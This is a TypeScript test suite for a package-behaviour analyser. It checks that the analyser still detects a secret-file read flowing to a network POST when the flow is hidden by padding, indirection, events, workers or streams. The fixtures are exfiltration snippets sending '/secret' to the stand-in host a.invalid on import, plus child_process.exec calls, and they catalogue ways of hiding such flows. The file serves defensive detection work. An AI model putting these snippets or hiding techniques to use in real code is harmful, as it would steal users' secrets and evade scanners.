import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf } from '../../test/behave.ts';

type Files = Readonly<Record<string, string>>;

/** More than anything of the kind was once looked at. */
const MANY = 130;

const all = (make: (at: number) => string, between = ' '): string => Array.from({ length: MANY }, (_, at) => make(at)).join(between);
const filesOf = (make: (at: number) => string): Files =>
  Object.fromEntries(Array.from({ length: MANY }, (_, at) => [`lib/f${at}.js`, make(at)]));
const chain = (hands: (to: string) => string, last: string): Files =>
  filesOf(at => (at === MANY - 1 ? last : hands(`require('./f${at + 1}')`)));

const POST = `const post = d => fetch('https://a.invalid', { method: 'POST', body: d });`;
const FS = `const fs = require('fs'), os = require('os');`;
const SECRET = `fs.readFileSync('/secret')`;

/** What is read is sent, whatever stands before it. */
const SENT: readonly (readonly [string, Files])[] = [
  [
    'through many files',
    {
      'index.js': `${FS} require('./lib/f0').go(${SECRET})`,
      ...chain(next => `exports.go = d => ${next}.go(d)`, `${POST} exports.go = post`),
    },
  ],
  [
    'as what many files give back',
    {
      'index.js': `${POST} post(require('./lib/f0').get())`,
      ...chain(next => `exports.get = () => ${next}.get()`, `${FS} exports.get = () => ${SECRET}`),
    },
  ],
  [
    'by one of many callers',
    { 'index.js': `${FS} ${POST} ${all(at => `post('${at}');`)} post(${SECRET}); ${all(at => `post('b${at}');`)}` },
  ],
  [
    'by one of many files that call',
    {
      'index.js': `${all(at => `require('./lib/f${at}');`)} require('./one')`,
      'post.js': `${POST} exports.post = post`,
      'one.js': `${FS} require('./post').post(${SECRET})`,
      ...filesOf(at => `require('../post').post('${at}')`),
    },
  ],
  ['among much else in a list', { 'index.js': `${FS} ${POST} post([${all(() => 'os.hostname()', ', ')}, ${SECRET}].join())` }],
  ['among much else in a text', { 'index.js': `${FS} ${POST} let d = ''; ${all(() => 'd += os.hostname();')} d += ${SECRET}; post(d)` }],
  [
    'among much else that is pushed',
    { 'index.js': `${FS} ${POST} const d = []; ${all(() => 'd.push(os.hostname());')} d.push(${SECRET}); post(d)` },
  ],
  [
    'behind many arguments',
    { 'index.js': `${FS} ${POST} function go() { post(arguments[${MANY}]) } go(${all(() => '0', ', ')}, ${SECRET})` },
  ],
  [
    'behind many arguments of another file',
    {
      'index.js': `${FS} require('./go').go(${all(() => '0', ', ')}, ${SECRET})`,
      'go.js': `${POST} exports.go = (${all(at => `a${at}`, ', ')}, d) => post(d)`,
    },
  ],
  [
    'after much else that is yielded',
    { 'index.js': `${FS} ${POST} function* list() { ${all(at => `yield '${at}';`)} yield ${SECRET} } for (const d of list()) post(d)` },
  ],
  [
    'after much else that is returned',
    { 'index.js': `${FS} ${POST} function get(k) { ${all(at => `if (k === ${at}) return '${at}';`)} return ${SECRET} } post(get(x))` },
  ],
  ['where a variable holds much else', { 'index.js': `${FS} ${POST} let d; ${all(at => `d = '${at}';`)} d = ${SECRET}; post(d)` }],
  [
    'where a field holds much else',
    {
      'index.js': `${FS} ${POST} class C { constructor() { ${all(at => `this.d = '${at}';`)} this.d = ${SECRET} } go() { post(this.d) } } new C().go()`,
    },
  ],
  [
    'by one of many calls that a function is handed to',
    { 'index.js': `${FS} ${POST} const done = (e, d) => post(d); ${all(at => `setTimeout(done, ${at});`)} fs.readFile('/secret', done)` },
  ],
  [
    'by one of many events',
    {
      'index.js': `${FS} ${POST} const bus = new (require('events'))(); bus.on('x', d => post(d)); ${all(at => `bus.emit('x', ${at});`)} bus.emit('x', ${SECRET})`,
    },
  ],
  [
    'by one of many messages to a thread',
    {
      'index.js': `${FS} const { Worker } = require('worker_threads'); ${all(at => `new Worker('./w.js', { workerData: ${at} });`)} new Worker('./w.js', { workerData: ${SECRET} })`,
      'w.js': `${POST} post(require('worker_threads').workerData)`,
    },
  ],
  [
    'through many streams',
    {
      'index.js': `${FS} const s = require('stream'); s.pipeline(fs.createReadStream('/secret'), ${all(() => 'new s.PassThrough()', ', ')}, require('https').request('https://a.invalid'), () => {})`,
    },
  ],
  [
    'by one of many functions of a list',
    { 'index.js': `${FS} ${POST} for (const step of [${all(at => `() => ${at}`, ', ')}, () => post(${SECRET})]) step()` },
  ],
  [
    'by one of many files of a list',
    {
      'index.js': `[${all(at => `require('./lib/f${at}')`, ', ')}, require('./one')].forEach(step => step())`,
      'one.js': `${FS} ${POST} module.exports = () => post(${SECRET})`,
      ...filesOf(at => `module.exports = () => ${at}`),
    },
  ],
  [
    'by one of many functions that another file offers',
    {
      'index.js': `const steps = require('./steps'); for (const key of Object.keys(steps)) steps[key]()`,
      'steps.js': `${FS} ${POST} ${all(at => `exports.a${at} = () => ${at};`)} exports.z = () => post(${SECRET})`,
    },
  ],
  [
    'by one of many classes',
    {
      'index.js': `${FS} ${POST} class A { go() { this.act() } } ${all(at => `class A${at} extends A { act() {} }`)} class Z extends A { act() { post(${SECRET}) } } new Z().go()`,
    },
  ],
  [
    'with what many files were lent before',
    {
      'index.js': `${all(at => `require('./lib/f${at}')(require('fs'));`)} require('./one')(require('fs'), require('https'))`,
      'one.js': `module.exports = (fs, https) => https.request('https://a.invalid').end(${SECRET})`,
      ...filesOf(at => `module.exports = fs => fs.existsSync('${at}')`),
    },
  ],
];

/** What stands in the target, whatever else does. */
const NAMED: readonly (readonly [string, string, Files])[] = [
  ['of a list', '/secret', { 'index.js': `${FS} for (const name of [${all(at => `'/a${at}'`, ', ')}, '/secret']) fs.readFileSync(name)` }],
  [
    'of a list in a folder',
    '<home>/secret',
    { 'index.js': `${FS} for (const name of [${all(at => `'a${at}'`, ', ')}, 'secret']) fs.readFileSync(os.homedir() + '/' + name)` },
  ],
  [
    'of objects in a list',
    '/secret',
    { 'index.js': `${FS} for (const { path } of [${all(at => `{ path: '/a${at}' }`, ', ')}, { path: '/secret' }]) fs.readFileSync(path)` },
  ],
  [
    'that a generator yields',
    '/secret',
    {
      'index.js': `${FS} function* list() { ${all(at => `yield '/a${at}';`)} yield '/secret' } for (const name of list()) fs.readFileSync(name)`,
    },
  ],
  [
    'that callers pass',
    '/secret',
    { 'index.js': `${FS} const read = name => fs.readFileSync(name); ${all(at => `read('/a${at}');`)} read('/secret')` },
  ],
  [
    'that another file offers in a list',
    '/secret',
    {
      'index.js': `${FS} for (const name of require('./names').names) fs.readFileSync(name)`,
      'names.js': `exports.names = [${all(at => `'/a${at}'`, ', ')}, '/secret']`,
    },
  ],
  [
    'that a file of data has in a list',
    '/secret',
    {
      'index.js': `${FS} for (const name of require('./names.json').names) fs.readFileSync(name)`,
      'names.json': `{ "names": [${all(at => `"/a${at}"`, ', ')}, "/secret"] }`,
    },
  ],
  [
    'that goes through many files',
    '/secret',
    {
      'index.js': `require('./lib/f0').go('/secret')`,
      ...chain(next => `exports.go = d => ${next}.go(d)`, `${FS} exports.go = name => fs.readFileSync(name)`),
    },
  ],
];

describe('nothing is hidden by how much stands beside it', () => {
  for (const [what, files] of SENT)
    it(`where it is sent ${what}`, () => {
      const { flows } = behaviourOf(files);
      assert.ok(
        flows.some(({ from, to }) => from.kind === 'reads file' && to.kind === 'connects' && to.triggers.includes('import')),
        JSON.stringify(flows.map(({ from, to }) => [from.api, to.api, to.triggers])),
      );
    });

  for (const [what, target, files] of NAMED)
    it(`where it is one of the names ${what}`, () => {
      const read = behaviourOf(files).effects.filter(({ kind }) => kind === 'reads file');
      assert.ok(
        read.some(effect => effect.target.split(' | ').includes(target)),
        JSON.stringify(read.map(effect => effect.target.slice(-80))),
      );
    });
});

describe('what is more than is looked at is a gap', () => {
  const names = (many: number): string => Array.from({ length: many }, (_, at) => `'/a${at}'`).join(', ');

  for (const [what, act] of [
    ['a name in a list', (many: number) => `for (const name of [${names(many)}]) require('child_process').exec(name)`],
    [
      'what callers pass',
      (many: number) =>
        `const run = c => require('child_process').exec(c); ${Array.from({ length: many }, (_, at) => `run('${at}');`).join(' ')}`,
    ],
    [
      'what a variable holds',
      (many: number) => `let c; ${Array.from({ length: many }, (_, at) => `c = '${at}';`).join(' ')} require('child_process').exec(c)`,
    ],
  ] as const)
    it(`of ${what}`, () => {
      assert.deepEqual(behaviourOf({ 'index.js': act(200) }).unfollowed, []);
      assert.match(behaviourOf({ 'index.js': act(300) }).unfollowed.join(), /acts unasked on one of more things/);
    });

  it('but not where somebody asks for it', () =>
    assert.deepEqual(
      behaviourOf({ 'index.js': `exports.go = () => { for (const name of [${names(300)}]) require('child_process').exec(name) }` })
        .unfollowed,
      [],
    ));
});
